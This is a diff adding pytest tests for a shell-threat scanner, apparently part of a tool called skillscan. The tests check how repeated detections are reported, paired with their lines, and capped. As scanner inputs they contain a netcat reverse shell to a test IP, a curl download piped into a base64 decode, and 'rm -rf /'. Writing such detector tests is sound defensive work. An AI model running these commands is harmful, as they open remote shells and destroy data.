@@ -1,0 +1,43 @@
+"""Shell threat scanning of repeated statements: each is reported at its own line, effects that
+pair statements (a download and a decode on one line) still pair, 20 hits per rule are listed
+and the rest counted."""
+
+from __future__ import annotations
+
+from skillscan.analyzers.treesitter.sensitive import ThreatContext
+from skillscan.analyzers.treesitter.shell_threats import scan_shell_threats
+
+
+def _found(source: str, **kw: object) -> list[tuple[int, str]]:
+    return sorted((d.line, d.rule_id) for d in scan_shell_threats(source, ThreatContext(), **kw))  # type: ignore[arg-type]
+
+
+def test_repeated_statements_are_reported_at_their_own_lines() -> None:
+    src = "echo ok\nnc -e /bin/sh 192.0.2.1 4444\n" * 3
+    assert _found(src) == [
+        (2, "reverse-shell-netcat"),
+        (4, "reverse-shell-netcat"),
+        (6, "reverse-shell-netcat"),
+    ]
+
+
+def test_a_repeated_download_still_pairs_with_its_decode() -> None:
+    line = "curl -s http://192.0.2.1/x -o /tmp/p; base64 -d /tmp/p > /tmp/q\n"
+    found = _found("echo start\n" + line * 3 + "base64 -d /tmp/p > /tmp/q\n")
+    assert found == [(2, "download-then-decode"), (3, "download-then-decode"), (4, "download-then-decode")]
+
+
+def test_twenty_hits_per_rule_are_listed_and_the_rest_counted() -> None:
+    src = "rm -rf /\n" * 30 + "nc -e /bin/sh 192.0.2.1 4444\n"
+    found = scan_shell_threats(src, ThreatContext())
+    rm = [d for d in found if d.rule_id == "destructive-rm-root"]
+    assert [d.line for d in rm] == list(range(1, 21)) and rm[-1].more == 10
+    assert [(d.line, d.rule_id) for d in found if d.rule_id != "destructive-rm-root"] == [
+        (31, "reverse-shell-netcat")
+    ]
+
+
+def test_lines_left_out_do_not_use_up_the_listing() -> None:
+    src = "rm -rf /\n" * 25
+    found = _found(src, keep=lambda line: line > 22)
+    assert found == [(23, "destructive-rm-root"), (24, "destructive-rm-root"), (25, "destructive-rm-root")]
